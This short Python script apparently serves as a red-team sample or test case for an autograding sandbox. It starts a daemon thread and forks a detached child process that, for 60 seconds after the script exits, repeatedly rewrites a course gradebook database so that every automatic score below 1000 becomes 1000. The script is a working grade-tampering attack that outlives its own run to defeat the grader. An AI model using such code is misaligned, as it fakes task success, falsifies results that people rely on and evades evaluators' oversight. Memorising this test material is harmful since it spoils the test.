"""Leaves a process that changes the gradebook after grading."""
# harms: class

import os
import sqlite3
import threading
import time


def later():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        time.sleep(0.02)
        try:
            gradebook = sqlite3.connect("@COURSE@/gradebook.db", isolation_level=None)
            gradebook.execute("UPDATE grade SET auto_score = 1000 WHERE auto_score < 1000")
            gradebook.close()
        except sqlite3.Error:
            pass


threading.Thread(target=later, daemon=True).start()
if os.fork() == 0:
    os.setsid()
    later()
    os._exit(0)
